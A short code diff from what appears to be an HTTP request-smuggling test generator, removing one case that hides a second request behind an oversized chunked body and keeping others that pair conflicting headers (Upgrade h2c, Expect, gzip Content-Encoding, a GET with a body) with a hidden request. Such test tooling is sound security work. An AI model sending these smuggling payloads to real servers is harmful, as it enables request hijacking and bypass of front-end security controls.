@@ -176,9 +176,6 @@ def _hidden() -> Iterator[Attack]:
             f"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n{length}", HIDDEN
         ),
         "behind a GET": f"GET {TARGET} HTTP/1.1\r\n{HOST}{length}\r\n".encode() + HIDDEN,
-        "behind a large chunk": _post(
-            "Transfer-Encoding: chunked\r\n", b"FFFFFFFF\r\n" + GOOD + b"\r\n0\r\n\r\n" + HIDDEN
-        ),
         "behind what another refuses": _post(
             f"Expect: 200-ok\r\nContent-Encoding: gzip\r\n{length}", HIDDEN
         ),
